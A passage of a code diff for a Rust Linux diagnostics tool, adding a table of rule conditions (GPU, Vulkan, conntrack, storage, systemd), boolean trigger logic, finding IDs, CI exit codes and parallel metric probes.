+        description: "PRIME render offload configured (enabled/disabled)",
+        parse: |value| {
+            let value = value.trim().to_ascii_lowercase();
+            matches!(value.as_str(), "enabled" | "disabled")
+                .then_some(Condition::PrimeOffloadEquals(value))
+        },
+    },
+    ConditionSpec {
+        token: "gamescope_running=",
+        example: "gamescope_running=true",
+        argument: "bool",
+        description: "Gamescope is running",
+        parse: |value| parse_bool_token(value).map(Condition::GamescopeRunning),
+    },
+    ConditionSpec {
+        token: "steam_running=",
+        example: "steam_running=true",
+        argument: "bool",
+        description: "Steam is running",
+        parse: |value| parse_bool_token(value).map(Condition::SteamRunning),
+    },
+    ConditionSpec {
+        token: "proton_failures=",
+        example: "proton_failures=true",
+        argument: "bool",
+        description: "Proton errors detected",
+        parse: |value| parse_bool_token(value).map(Condition::ProtonFailures),
+    },
+    ConditionSpec {
+        token: "gpu_driver_mismatch=",
+        example: "gpu_driver_mismatch=true",
+        argument: "bool",
+        description: "Loaded NVIDIA module differs from the installed driver",
+        parse: |value| parse_bool_token(value).map(Condition::GpuDriverMismatch),
+    },
+    ConditionSpec {
+        token: "gpu_underclocked=",
+        example: "gpu_underclocked=true",
+        argument: "bool",
+        description: "A busy GPU runs well below its max core clock",
+        parse: |value| parse_bool_token(value).map(Condition::GpuUnderclocked),
+    },
+    ConditionSpec {
+        token: "hw_encoder_missing=",
+        example: "hw_encoder_missing=true",
+        argument: "bool",
+        description: "No hardware video encoder (NVENC or VAAPI)",
+        parse: |value| parse_bool_token(value).map(Condition::HwEncoderMissing),
+    },
+    ConditionSpec {
+        token: "vulkan_loader_missing=",
+        example: "vulkan_loader_missing=true",
+        argument: "bool",
+        description: "Vulkan loader not installed",
+        parse: |value| parse_bool_token(value).map(Condition::VulkanLoaderMissing),
+    },
+    ConditionSpec {
+        token: "conntrack_usage>",
+        example: "conntrack_usage>90",
+        argument: "number",
+        description: "nf_conntrack table above N% full",
+        parse: |value| number(value).map(Condition::ConntrackUsageGreater),
+    },
+    ConditionSpec {
+        token: "tmpfs_full>",
+        example: "tmpfs_full>90",
+        argument: "number",
+        description: "Fullest tmpfs mount above N%",
+        parse: |value| number(value).map(Condition::TmpfsFullGreater),
+    },
+    ConditionSpec {
+        token: "unit_restarts>",
+        example: "unit_restarts>10",
+        argument: "number",
+        description: "A systemd service restarted more than N times",
+        parse: |value| number(value).map(Condition::UnitRestartsGreater),
+    },
+    ConditionSpec {
+        token: "firmware_updates>",
+        example: "firmware_updates>0",
+        argument: "number",
+        description: "More than N pending firmware updates (why update)",
+        parse: |value| number(value).map(Condition::FirmwareUpdatesGreater),
+    },
+    ConditionSpec {
+        token: "coredump_size_mb>",
+        example: "coredump_size_mb>1024",
+        argument: "number",
+        description: "Core dumps take more than N MB",
+        parse: |value| number(value).map(Condition::CoredumpSizeGreater),
+    },
+    ConditionSpec {
+        token: "stale_mount=",
+        example: "stale_mount=true",
+        argument: "bool",
+        description: "A network mount did not answer stat in time",
+        parse: |value| parse_bool_token(value).map(Condition::StaleMount),
+    },
+    ConditionSpec {
+        token: "iowait>",
+        example: "iowait>30",
+        argument: "number",
+        description: "More than N% of CPU time waiting on I/O",
+        parse: |value| number(value).map(Condition::IowaitGreater),
+    },
+    ConditionSpec {
+        token: "vulkan_device_count<",
+        example: "vulkan_device_count<1",
+        argument: "number",
+        description: "Vulkan enumerates fewer than N devices",
+        parse: |value| number(value).map(Condition::VulkanDeviceCountLess),
+    },
+];
+
+fn condition_listing() -> String {
+    let width = |field: fn(&ConditionSpec) -> &str| {
+        CONDITIONS
+            .iter()
+            .map(|spec| field(spec).len())
+            .max()
+            .unwrap_or(0)
+    };
+    let (token_width, example_width) = (width(|spec| spec.token), width(|spec| spec.example));
+    let mut out = format!("{}\n", t!("list_conditions_header"));
+    for spec in CONDITIONS {
+        out.push_str(&format!(
+            "  {:<token_width$}  {:<12}  {:<example_width$}  {}\n",
+            spec.token, spec.argument, spec.example, spec.description
         ));
     }
-    if let Some(value) = token.strip_prefix("gamescope_running=") {
-        return parse_bool_token(value).map(Condition::GamescopeRunning);
-    }
-    if let Some(value) = token.strip_prefix("steam_running=") {
-        return parse_bool_token(value).map(Condition::SteamRunning);
+    out.push_str(&format!("\n{}\n", t!("list_conditions_operators")));
+    out
+}
+
+fn parse_condition(token: &str) -> Option<Condition> {
+    if token.is_empty() {
+        return None;
     }
-    if let Some(value) = token.strip_prefix("proton_failures=") {
-        return parse_bool_token(value).map(Condition::ProtonFailures);
+    if let Some(inner) = token.strip_prefix('!') {
+        return parse_condition(inner.trim()).map(|condition| Condition::Not(Box::new(condition)));
     }
-    if let Some(value) = token.strip_prefix("vulkan_loader_missing=") {
-        return parse_bool_token(value).map(Condition::VulkanLoaderMissing);
+    // Longest prefix wins, so `gpu_mem_used_mb>` never falls to a shorter one
+    let spec = CONDITIONS
+        .iter()
+        .filter(|spec| token.starts_with(spec.token))
+        .max_by_key(|spec| spec.token.len());
+    if let Some(spec) = spec {
+        return (spec.parse)(&token[spec.token.len()..]);
     }
 
     eprintln!("Unknown condition in rule trigger: {token}");
     None
 }
 
+fn number<T: std::str::FromStr>(value: &str) -> Option<T> {
+    value.trim().parse().ok()
+}
+
+/// `env[VAR]=value`
+fn parse_env_equals(rest: &str) -> Option<Condition> {
+    let (var, value) = parse_env_operand(rest)?;
+    Some(Condition::EnvEquals {
+        var,
+        value: value.to_string(),
+    })
+}
+
+/// `env_set[VAR]=bool`
+fn parse_env_set(rest: &str) -> Option<Condition> {
+    let (var, value) = parse_env_operand(rest)?;
+    parse_bool_token(value).map(|set| Condition::EnvSet { var, set })
+}
+
+/// `process_mem_pct[name]>percent`
+fn parse_process_mem_percent(rest: &str) -> Option<Condition> {
+    let (name, value) = rest.split_once("]>")?;
+    let name = name.trim();
+    if name.is_empty() {
+        return None;
+    }
+    number(value).map(|percent| Condition::ProcessMemPercentGreater {
+        name: name.to_ascii_lowercase(),
+        percent,
+    })
+}
+
+/// `VAR]=value` after `env[` or `env_set[`; VAR is letters, digits and `_`
+fn parse_env_operand(rest: &str) -> Option<(String, &str)> {
+    let (var, value) = rest.split_once("]=")?;
+    let valid = !var.is_empty() && var.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
+    valid.then(|| (var.to_string(), value.trim()))
+}
+
 fn parse_bool_token(value: &str) -> Option<bool> {
     match value.trim().to_ascii_lowercase().as_str() {
         "true" | "1" | "yes" => Some(true),
@@ -564,44 +2053,322 @@ fn parse_bool_token(value: &str) -> Option<bool> {
     }
 }
 
-fn evaluate_rules(metrics: &Metrics, parsed_rules: &[(Vec<Condition>, Rule)]) -> Vec<Finding> {
+fn evaluate_rules(metrics: &Metrics, parsed_rules: &[(Trigger, Rule)]) -> Vec<Finding> {
     let mut findings = Vec::new();
     let logs = recent_logs();
 
-    'rule_loop: for (conditions, rule) in parsed_rules {
-        for condition in conditions {
-            if !condition_holds(condition, metrics, logs.as_deref()) {
-                continue 'rule_loop;
-            }
+    for (trigger, rule) in parsed_rules {
+        if !trigger_holds(trigger, metrics, logs.as_deref()) {
+            continue;
         }
 
         findings.push(Finding {
+            id: finding_id(
+                &rule.name,
+                finding_subject(trigger, metrics).as_deref(),
+                finding_band(trigger, metrics),
+            ),
             severity: format!("{} {}", severity_emoji(rule.severity), rule.severity),
             severity_value: rule.severity,
             message: rule.message.clone(),
             solution: rule.solution.clone(),
             auto_fix: rule.auto_fix.clone(),
             rule_name: rule.name.clone(),
+            actionable: rule.is_actionable(),
+            categories: trigger_categories(trigger),
         });
     }
 
-    findings.sort_by(|a, b| b.severity_value.cmp(&a.severity_value));
+    findings.sort_by_key(|f| std::cmp::Reverse(f.severity_value));
     findings
 }
 
+/// Areas of the trigger's conditions, deduplicated
+fn trigger_categories(trigger: &Trigger) -> Vec<FindingCategory> {
+    let mut categories: Vec<FindingCategory> = trigger
+        .conditions()
+        .into_iter()
+        .filter_map(condition_category)
+        .collect();
+    categories.sort();
+    categories.dedup();
+    categories
+}
+
+/// `None` for conditions that only narrow where a rule applies (vendor,
+/// session type, running programs, negations). Log matches count as
+/// stability: the journal lines rules look for are errors.
+fn condition_category(condition: &Condition) -> Option<FindingCategory> {
+    use FindingCategory::*;
+    match condition {
+        Condition::CpuGreater(_)
+        | Condition::MemGreater(_)
+        | Condition::SwapGreater(_)
+        | Condition::LoadAvgGreater(_)
+        | Condition::ProcessMemPercentGreater { .. }
+        | Condition::ProcessCountGreater(_)
+        | Condition::IowaitGreater(_)
+        | Condition::ZfsArcPercentGreater(_)
+        | Condition::PipewireLatencyGreater(_)
+        | Condition::FirefoxSoftRender(_)
+        | Condition::GpuUtilGreater(_)
+        | Condition::GpuMemUtilGreater(_)
+        | Condition::GpuMemUsedGreater(_)
+        | Condition::GpuUnderclocked(_) => Some(Performance),
+        Condition::DiskFullGreater(_)
+        | Condition::InodeFullGreater(_)
+        | Condition::SnapLoopsGreater(_)
+        | Condition::FlatpakUnusedGreater(_)
+        | Condition::DockerDanglingGreater(_)
+        | Condition::TmpfsFullGreater(_)
+        | Condition::StaleMount(_)
+        | Condition::LuksDevicesGreater(_)
+        | Condition::CoredumpSizeGreater(_) => Some(Storage),
+        Condition::FanSpeedGreater(_)
+        | Condition::TemperatureGreater(_)
+        | Condition::GpuTempGreater(_)
+        | Condition::BatteryDrainGreater(_) => Some(Thermal),
+        Condition::LogContains(_)
+        | Condition::ProtonFailures(_)
+        | Condition::VulkanLoaderMissing(_)
+        | Condition::VulkanDeviceCountLess(_)
+        | Condition::UnitRestartsGreater(_) => Some(Stability),
+        Condition::WifiChannelCountGreater(_)
+        | Condition::WifiSignalLess(_)
+        | Condition::ConntrackUsageGreater(_) => Some(Network),
+        Condition::FirmwareUpdatesGreater(_) | Condition::GpuDriverMismatch(_) => Some(Updates),
+        Condition::CpuLess(_)
+        | Condition::MemLess(_)
+        | Condition::TotalRamLess(_)
+        | Condition::TotalRamGreater(_)
+        | Condition::ProcessContains(_)
+        | Condition::FilesystemEquals(_)
+        | Condition::WaylandVsX11(_)
+        | Condition::GpuVendorEquals(_)
+        | Condition::GpuTempLess(_)
+        | Condition::PrimeOffloadEquals(_)
+        | Condition::GamescopeRunning(_)
+        | Condition::SteamRunning(_)
+        | Condition::HwEncoderMissing(_)
+        | Condition::EnvEquals { .. }
+        | Condition::EnvSet { .. }
+        | Condition::Not(_) => None,
+    }
+}
+
+/// Finding ID: the rule name, plus `@` and the mount or device it is about
+/// when the trigger names one, plus `#` and the threshold band when the
+/// value is well past the threshold (see `finding_band`). A disk going from
+/// 91% to 100% full stays the same finding, a CPU rule firing at twice its
+/// threshold is a new one; the rule name is everything before `@` or `#`.
+fn finding_id(rule_name: &str, subject: Option<&str>, band: u32) -> String {
+    let mut id = rule_name.to_string();
+    if let Some(subject) = subject {
+        id.push('@');
+        id.push_str(subject);
+    }
+    if band > 0 {
+        id.push_str(&format!("#{band}"));
+    }
+    id
+}
+
+/// Width of one finding band, as a share of the threshold (at least 1, so
+/// `>0` count thresholds band too)
+const FINDING_BAND_WIDTH: f32 = 0.5;
+const FINDING_BAND_MAX: u32 = 4;
+
+/// How far past its threshold the first numeric condition is, in bands of
+/// `FINDING_BAND_WIDTH`: 0 just over it, up to `FINDING_BAND_MAX`
+fn finding_band(trigger: &Trigger, metrics: &Metrics) -> u32 {
+    trigger
+        .conditions()
+        .into_iter()
+        .find_map(|condition| {
+            let (threshold, above) = condition_threshold(condition)?;
+            let value = condition_metric_value(condition, metrics)?;
+            let past = if above {
+                value - threshold
+            } else {
+                threshold - value
+            };
+            let width = (threshold.abs() * FINDING_BAND_WIDTH).max(1.0);
+            Some(((past.max(0.0) / width) as u32).min(FINDING_BAND_MAX))
+        })
+        .unwrap_or(0)
+}
+
+/// Threshold of a numeric comparison and whether it fires above it; `None`
+/// for flags, text matches and negations
+fn condition_threshold(condition: &Condition) -> Option<(f32, bool)> {
+    let threshold = match condition {
+        Condition::CpuGreater(value)
+        | Condition::MemGreater(value)
+        | Condition::SwapGreater(value)
+        | Condition::LoadAvgGreater(value)
+        | Condition::DiskFullGreater(value)
+        | Condition::InodeFullGreater(value)
+        | Condition::BatteryDrainGreater(value)
+        | Condition::FanSpeedGreater(value)
+        | Condition::TemperatureGreater(value)
+        | Condition::PipewireLatencyGreater(value)
+        | Condition::ZfsArcPercentGreater(value)
+        | Condition::GpuTempGreater(value)
+        | Condition::GpuUtilGreater(value)
+        | Condition::GpuMemUtilGreater(value)
+        | Condition::GpuMemUsedGreater(value)
+        | Condition::ConntrackUsageGreater(value)
+        | Condition::TmpfsFullGreater(value)
+        | Condition::IowaitGreater(value)
+        | Condition::CoredumpSizeGreater(value)
+        | Condition::ProcessMemPercentGreater { percent: value, .. } => (*value, true),
+        Condition::TotalRamGreater(value) => (*value as f32, true),
+        Condition::ProcessCountGreater(value) => (*value as f32, true),
+        Condition::SnapLoopsGreater(value)
+        | Condition::FlatpakUnusedGreater(value)
+        | Condition::WifiChannelCountGreater(value)
+        | Condition::DockerDanglingGreater(value)
+        | Condition::LuksDevicesGreater(value)
+        | Condition::FirmwareUpdatesGreater(value)
+        | Condition::UnitRestartsGreater(value) => (*value as f32, true),
+        Condition::CpuLess(value)
+        | Condition::MemLess(value)
+        | Condition::WifiSignalLess(value)
+        | Condition::GpuTempLess(value) => (*value, false),
+        Condition::TotalRamLess(value) => (*value as f32, false),
+        Condition::VulkanDeviceCountLess(value) => (*value as f32, false),
+        _ => return None,
+    };
+    Some(threshold)
+}
+
+/// What the first condition with a subject is about: the stale mounts, or
+/// the GPU model
+fn finding_subject(trigger: &Trigger, metrics: &Metrics) -> Option<String> {
+    trigger
+        .conditions()
+        .into_iter()
+        .find_map(|condition| match condition {
+            Condition::StaleMount(true) => metrics
+                .stale_mounts
+                .as_ref()
+                .filter(|mounts| !mounts.is_empty())
+                .map(|mounts| mounts.join(",")),
+            Condition::GpuVendorEquals(_)
+            | Condition::GpuTempGreater(_)
+            | Condition::GpuTempLess(_)
+            | Condition::GpuUtilGreater(_)
+            | Condition::GpuMemUtilGreater(_)
+            | Condition::GpuMemUsedGreater(_)
+            | Condition::GpuDriverMismatch(_)
+            | Condition::GpuUnderclocked(_) => metrics.gpu.as_ref()?.model.clone(),
+            _ => None,
+        })
+}
+
+/// Lowest severity shown as a warning (⚠️) and as critical (🔥)
+const SEVERITY_WARNING: u8 = 5;
+const SEVERITY_CRITICAL: u8 = 8;
+
+/// Exit codes of `--exit-code`, from the worst finding shown. They stay
+/// clear of the codes a failed run exits with, so CI can tell
+/// "problems found" from "why itself failed".
+const EXIT_CLEAN: i32 = 0;
+const EXIT_WARNINGS: i32 = 10;
+const EXIT_CRITICAL: i32 = 20;
+/// `main` returning `Err` (download, database or rules errors)
+const EXIT_ERROR: i32 = 1;
+/// clap's exit code for an invalid command line
+const EXIT_USAGE: i32 = 2;
+
 fn severity_emoji(severity: u8) -> &'static str {
     match severity {
-        0..=4 => "ℹ️",
-        5..=7 => "⚠️",
-        _ => "🔥",
+        SEVERITY_CRITICAL.. => "🔥",
+        SEVERITY_WARNING.. => "⚠️",
+        _ => "ℹ️",
+    }
+}
+
+fn exit_code(findings: &[Finding]) -> i32 {
+    match findings.iter().map(|f| f.severity_value).max() {
+        Some(SEVERITY_CRITICAL..) => EXIT_CRITICAL,
+        Some(SEVERITY_WARNING..) => EXIT_WARNINGS,
+        _ => EXIT_CLEAN,
+    }
+}
+
+/// Leave with `status` unless it is `EXIT_CLEAN`, after the report is printed
+fn exit_with(status: i32) {
+    if status != EXIT_CLEAN {
+        std::process::exit(status);
+    }
+}
+
+/// `--explain-exit-code`: what an `--exit-code` status means
+fn explain_exit_code(code: i32) -> Result<String> {
+    let meaning = match code {
+        EXIT_CLEAN => t!("exit_code_clean"),
+        EXIT_WARNINGS => t!("exit_code_warnings"),
+        EXIT_CRITICAL => t!("exit_code_critical"),
+        EXIT_ERROR => t!("exit_code_error"),
+        EXIT_USAGE => t!("exit_code_usage"),
+        _ => {
+            return Err(anyhow!(t!("exit_code_unknown")
+                .replace("{code}", &code.to_string())
+                .replace(
+                    "{codes}",
+                    &[
+                        EXIT_CLEAN,
+                        EXIT_ERROR,
+                        EXIT_USAGE,
+                        EXIT_WARNINGS,
+                        EXIT_CRITICAL
+                    ]
+                    .map(|code| code.to_string())
+                    .join(", ")
+                )))
+        }
+    };
+    let fill = |text: &str| {
+        text.replace("{warnings_code}", &EXIT_WARNINGS.to_string())
+            .replace("{critical_code}", &EXIT_CRITICAL.to_string())
+            .replace("{info_max}", &(SEVERITY_WARNING - 1).to_string())
+            .replace("{warning_max}", &(SEVERITY_CRITICAL - 1).to_string())
+            .replace("{warning}", &SEVERITY_WARNING.to_string())
+            .replace("{critical}", &SEVERITY_CRITICAL.to_string())
+    };
+    Ok(format!(
+        "{code}: {}\n{}",
+        fill(&meaning),
+        fill(&t!("exit_code_boundaries"))
+    ))
+}
+
+fn trigger_holds(trigger: &Trigger, metrics: &Metrics, logs: Option<&str>) -> bool {
+    match trigger {
+        Trigger::Condition(condition) => condition_holds(condition, metrics, logs),
+        Trigger::All(children) => children
+            .iter()
+            .all(|child| trigger_holds(child, metrics, logs)),
+        Trigger::Any(children) => children
+            .iter()
+            .any(|child| trigger_holds(child, metrics, logs)),
     }
 }
 
 fn condition_holds(condition: &Condition, metrics: &Metrics, logs: Option<&str>) -> bool {
     match condition {
-        Condition::CpuGreater(value) => metrics.cpu_usage > *value,
+        Condition::CpuGreater(value) => metrics.cpu_usage.is_some_and(|cpu| cpu > *value),
         Condition::MemGreater(value) => metrics.mem_usage > *value,
         Condition::TotalRamLess(value) => metrics.total_ram_mb < *value,
+        Condition::CpuLess(value) => metrics.cpu_usage.is_some_and(|cpu| cpu < *value),
+        Condition::MemLess(value) => metrics.mem_usage < *value,
+        Condition::TotalRamGreater(value) => metrics.total_ram_mb > *value,
+        Condition::SwapGreater(value) => metrics.swap_usage_percent > *value,
+        Condition::LoadAvgGreater(value) => metrics.load_avg_1.is_some_and(|load| load > *value),
+        Condition::ProcessMemPercentGreater { name, percent } => {
+            process_memory_percent(metrics, name).is_some_and(|used| used > *percent)
+        }
         Condition::ProcessContains(name) => {
             let needle = name.to_ascii_lowercase();
             metrics
@@ -611,7 +2378,17 @@ fn condition_holds(condition: &Condition, metrics: &Metrics, logs: Option<&str>)
         }
         Condition::ProcessCountGreater(value) => metrics.process_count > *value,
         Condition::LogContains(regex) => logs.map(|log| regex.is_match(log)).unwrap_or(false),
+        // A probe that did not run is not "below the threshold"; no journal
+        // is not "the journal lacks it"
+        Condition::Not(inner) => {
+            let unmeasured = matches!(condition_metric(inner, metrics), Some(None))
+                || (logs.is_none() && matches!(**inner, Condition::LogContains(_)));
+            !unmeasured && !condition_holds(inner, metrics, logs)
+        }
         Condition::DiskFullGreater(value) => metrics.disk_full_percent > *value,
+        Condition::InodeFullGreater(value) => {
+            metrics.inode_full_percent.is_some_and(|used| used > *value)
+        }
         Condition::SnapLoopsGreater(value) => metrics
             .snap_loops
             .map(|loops| loops > *value)
@@ -699,79 +2476,854 @@ fn condition_holds(condition: &Condition, metrics: &Metrics, logs: Option<&str>)
             .and_then(|gpu| gpu.memory_utilization())
             .map(|util| util > *value)
             .unwrap_or(false),
+        Condition::GpuMemUsedGreater(value) => metrics
+            .gpu
+            .as_ref()
+            .and_then(|gpu| gpu.memory_used_mb)
+            .map(|used| used > *value)
+            .unwrap_or(false),
         Condition::PrimeOffloadEquals(expected) => {
-            let actual = if metrics.prime_offload_enabled {
-                "enabled"
-            } else {
-                "disabled"
-            };
-            actual.eq_ignore_ascii_case(expected)
+            metrics.prime_offload_enabled.is_some_and(|enabled| {
+                let actual = if enabled { "enabled" } else { "disabled" };
+                actual.eq_ignore_ascii_case(expected)
+            })
         }
-        Condition::GamescopeRunning(expected) => metrics.gamescope_running == *expected,
-        Condition::SteamRunning(expected) => metrics.steam_running == *expected,
-        Condition::ProtonFailures(expected) => metrics.proton_failure_detected == *expected,
-        Condition::VulkanLoaderMissing(expected) => metrics.vulkan_loader_missing == *expected,
-    }
-}
-
-impl Metrics {
-    fn gather(sys: &System) -> Self {
-        let wifi_data = wifi_networks();
-        Metrics {
-            cpu_usage: sys.global_cpu_info().cpu_usage(),
-            mem_usage: memory_percent(sys),
-            total_ram_mb: sys.total_memory() / 1024,
-            disk_full_percent: disk_usage_percent(),
-            filesystem: root_filesystem(),
-            snap_loops: count_snap_loops(),
-            flatpak_unused: count_flatpak_unused(),
-            battery_drain_w: read_battery_drain(),
-            wifi_channel_count: wifi_data.as_ref().map(|nets| nets.len() as u32),
-            wifi_signal_dbm: wifi_data.as_ref().and_then(|nets| {
-                nets.iter()
-                    .find(|net| net.active)
-                    .or_else(|| {
-                        nets.iter().max_by(|a, b| match (a.signal, b.signal) {
-                            (Some(lhs), Some(rhs)) => {
-                                lhs.partial_cmp(&rhs).unwrap_or(Ordering::Equal)
-                            }
-                            (Some(_), None) => Ordering::Greater,
-                            (None, Some(_)) => Ordering::Less,
-                            (None, None) => Ordering::Equal,
-                        })
-                    })
-                    .and_then(|net| net.signal)
-            }),
-            fan_speed_rpm: read_max_fan_speed(),
-            temperature_c: read_max_temperature(),
-            wayland_vs_x11: current_session_type(),
-            docker_dangling: count_dangling_images(),
-            process_names: sys
-                .processes()
-                .values()
-                .map(|proc| proc.name().to_ascii_lowercase())
-                .collect(),
-            process_count: sys.processes().len(),
-            pipewire_latency_ms: detect_pipewire_latency_ms(),
-            firefox_soft_render: detect_firefox_soft_render(),
-            zfs_arc_full_percent: read_zfs_arc_percent(),
-            luks_device_count: count_luks_devices(),
-            gpu: None, // GPU detection moved out of gather() to avoid hammering in watch mode
-            prime_offload_enabled: detect_prime_offload_enabled(),
-            gamescope_running: is_process_running("gamescope"),
-            steam_running: is_process_running("steam") || is_process_running("steamwebhelper"),
-            proton_failure_detected: detect_proton_failures(),
-            vulkan_loader_missing: detect_vulkan_loader_missing(),
+        Condition::GamescopeRunning(expected) => metrics.gamescope_running == Some(*expected),
+        Condition::SteamRunning(expected) => metrics.steam_running == Some(*expected),
+        Condition::ProtonFailures(expected) => metrics.proton_failure_detected == Some(*expected),
+        Condition::VulkanLoaderMissing(expected) => {
+            metrics.vulkan_loader_missing == Some(*expected)
         }
-    }
-
-    fn with_gpu(mut self) -> Self {
-        self.gpu = detect_gpu_info();
-        self
+        Condition::ConntrackUsageGreater(value) => metrics
+            .conntrack_usage_percent
+            .map(|usage| usage > *value)
+            .unwrap_or(false),
+        Condition::TmpfsFullGreater(value) => metrics
+            .tmpfs_full_percent
+            .map(|usage| usage > *value)
+            .unwrap_or(false),
+        Condition::VulkanDeviceCountLess(value) => metrics
+            .vulkan_device_count
+            .map(|count| count < *value)
+            .unwrap_or(false),
+        Condition::IowaitGreater(value) => metrics
+            .iowait_percent
+            .map(|iowait| iowait > *value)
+            .unwrap_or(false),
+        Condition::StaleMount(expected) => metrics
+            .stale_mounts
+            .as_ref()
+            .is_some_and(|mounts| mounts.is_empty() != *expected),
+        Condition::FirmwareUpdatesGreater(value) => metrics
+            .firmware_updates
+            .map(|count| count > *value)
+            .unwrap_or(false),
+        Condition::CoredumpSizeGreater(value) => metrics
+            .coredump_size_mb
+            .map(|size| size > *value)
+            .unwrap_or(false),
+        Condition::HwEncoderMissing(expected) => metrics
+            .hw_encoder_missing
+            .map(|missing| missing == *expected)
+            .unwrap_or(false),
+        Condition::UnitRestartsGreater(value) => metrics
+            .unit_restarts
+            .map(|restarts| restarts > *value)
+            .unwrap_or(false),
+        Condition::GpuDriverMismatch(expected) => metrics
+            .gpu_driver_mismatch
+            .map(|mismatch| mismatch == *expected)
+            .unwrap_or(false),
+        Condition::GpuUnderclocked(expected) => metrics
+            .gpu_underclocked
+            .is_some_and(|underclocked| underclocked == *expected),
+        Condition::EnvEquals { var, value } => env::var(var).is_ok_and(|current| current == *value),
+        Condition::EnvSet { var, set } => env::var_os(var).is_some() == *set,
     }
 }
 
-fn memory_percent(sys: &System) -> f32 {
+/// Groups of optional metrics, each backed by tools or files that cost time
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Probe {
+    Packages,
+    Battery,
+    Wifi,
+    Sensors,
+    Desktop,
+    Docker,
+    Storage,
+    Gaming,
+    Network,
+    Services,
+    /// `systemctl show` over every service: boot, slow and snapshots only
+    Restarts,
+}
+
+const ALL_PROBES: &[Probe] = &[
+    Probe::Packages,
+    Probe::Battery,
+    Probe::Wifi,
+    Probe::Sensors,
+    Probe::Desktop,
+    Probe::Docker,
+    Probe::Storage,
+    Probe::Gaming,
+    Probe::Network,
+    Probe::Services,
+    Probe::Restarts,
+];
+
+/// `ALL_PROBES` without the restart counters, for the dashboard-style views
+/// and the `--watch` refresh
+const BROAD_PROBES: &[Probe] = &[
+    Probe::Packages,
+    Probe::Battery,
+    Probe::Wifi,
+    Probe::Sensors,
+    Probe::Desktop,
+    Probe::Docker,
+    Probe::Storage,
+    Probe::Gaming,
+    Probe::Network,
+    Probe::Services,
+];
+
+/// Values a probe measured, written into the metrics once it is collected
+type ProbeUpdate = Box<dyn FnOnce(&mut Metrics) + Send>;
+
+impl Probe {
+    /// Do the probe's (possibly slow) work without touching the metrics, so
+    /// it can run on another thread
+    fn measure(self) -> ProbeUpdate {
+        match self {
+            Probe::Packages => {
+                let snap_loops = count_snap_loops();
+                let flatpak_unused = count_flatpak_unused();
+                Box::new(move |metrics| {
+                    metrics.snap_loops = snap_loops;
+                    metrics.flatpak_unused = flatpak_unused;
+                })
+            }
+            Probe::Battery => {
+                let drain = read_battery_drain();
+                Box::new(move |metrics| metrics.battery_drain_w = drain)
+            }
+            Probe::Wifi => {
+                let wifi_data = wifi_networks();
+                let channel_count = wifi_data.as_ref().map(|nets| nets.len() as u32);
+                let signal = wifi_data.as_deref().and_then(best_wifi_signal);
+                Box::new(move |metrics| {
+                    metrics.wifi_channel_count = channel_count;
+                    metrics.wifi_signal_dbm = signal;
+                })
+            }
+            Probe::Sensors => {
+                let fan_speed = read_max_fan_speed();
+                let temperature = read_max_temperature();
+                Box::new(move |metrics| {
+                    metrics.fan_speed_rpm = fan_speed;
+                    metrics.temperature_c = temperature;
+                })
+            }
+            Probe::Desktop => {
+                let session = current_session_type();
+                let pipewire_latency = detect_pipewire_latency_ms();
+                let soft_render = detect_firefox_soft_render();
+                let prime_offload = detect_prime_offload_enabled();
+                Box::new(move |metrics| {
+                    metrics.wayland_vs_x11 = session;
+                    metrics.pipewire_latency_ms = pipewire_latency;
+                    metrics.firefox_soft_render = soft_render;
+                    metrics.prime_offload_enabled = Some(prime_offload);
+                })
+            }
+            Probe::Docker => {
+                let dangling = count_dangling_images();
+                Box::new(move |metrics| metrics.docker_dangling = dangling)
+            }
+            Probe::Storage => {
+                let zfs_arc = read_zfs_arc_percent();
+                let luks_devices = count_luks_devices();
+                let tmpfs_full = read_tmpfs_full_percent();
+                let inode_full = read_inode_usage_percent();
+                let stale_mounts = detect_stale_mounts();
+                let coredump_size =
+                    coredump_usage().map(|usage| usage.bytes as f32 / (1024.0 * 1024.0));
+                Box::new(move |metrics| {
+                    metrics.zfs_arc_full_percent = zfs_arc;
+                    metrics.luks_device_count = luks_devices;
+                    metrics.tmpfs_full_percent = tmpfs_full;
+                    metrics.inode_full_percent = inode_full;
+                    metrics.stale_mounts = Some(stale_mounts);
+                    metrics.coredump_size_mb = coredump_size;
+                })
+            }
+            Probe::Gaming => {
+                let gamescope = is_process_running("gamescope");
+                let steam = is_process_running("steam") || is_process_running("steamwebhelper");
+                let proton_failure = detect_proton_failures();
+                let vulkan_missing = detect_vulkan_loader_missing();
+                Box::new(move |metrics| {
+                    metrics.gamescope_running = Some(gamescope);
+                    metrics.steam_running = Some(steam);
+                    metrics.proton_failure_detected = Some(proton_failure);
+                    metrics.vulkan_loader_missing = Some(vulkan_missing);
+                })
+            }
+            Probe::Network => {
+                let conntrack = read_conntrack_usage_percent();
+                Box::new(move |metrics| metrics.conntrack_usage_percent = conntrack)
+            }
+            Probe::Services => {
+                let failed = read_failed_units().map(|units| units.len() as u32);
+                Box::new(move |metrics| metrics.failed_units = failed)
+            }
+            Probe::Restarts => {
+                let restarts = read_unit_restarts()
+                    .map(|units| units.iter().map(|unit| unit.restarts).max().unwrap_or(0));
+                Box::new(move |metrics| metrics.unit_restarts = restarts)
+            }
+        }
+    }
+
+    fn label(self) -> &'static str {
+        match self {
+            Probe::Packages => "packages",
+            Probe::Battery => "battery",
+            Probe::Wifi => "wifi",
+            Probe::Sensors => "sensors",
+            Probe::Desktop => "desktop",
+            Probe::Docker => "docker",
+            Probe::Storage => "storage",
+            Probe::Gaming => "gaming",
+            Probe::Network => "network",
+            Probe::Services => "services",
+            Probe::Restarts => "restarts",
+        }
+    }
+}
+
+/// Names accepted by `--probe`: every `Probe`, plus the GPU and firmware
+/// sections that are gathered outside them
+fn probe_names() -> Vec<&'static str> {
+    let mut names: Vec<&'static str> = ALL_PROBES.iter().map(|probe| probe.label()).collect();
+    names.extend(["gpu", "firmware"]);
+    names
+}
+
+struct ProbeReport {
+    raw: Vec<RawCommand>,
+    /// Metrics fields the probe set, with their parsed values
+    parsed: Vec<(String, serde_json::Value)>,
+}
+
+/// Run only the named probe, recording the commands it runs; `None` for an
+/// unknown name
+fn debug_probe(name: &str, measure: fn(Probe) -> ProbeUpdate) -> Option<ProbeReport> {
+    let probe = ALL_PROBES
+        .iter()
+        .copied()
+        .find(|probe| probe.label() == name);
+    if probe.is_none() && !matches!(name, "gpu" | "firmware") {
+        return None;
+    }
+    *RAW_COMMANDS.lock().unwrap() = Some(Vec::new());
+    let update = match (probe, name) {
+        (Some(probe), _) => measure(probe),
+        (None, "gpu") => gpu_update_full(),
+        _ => firmware_update(),
+    };
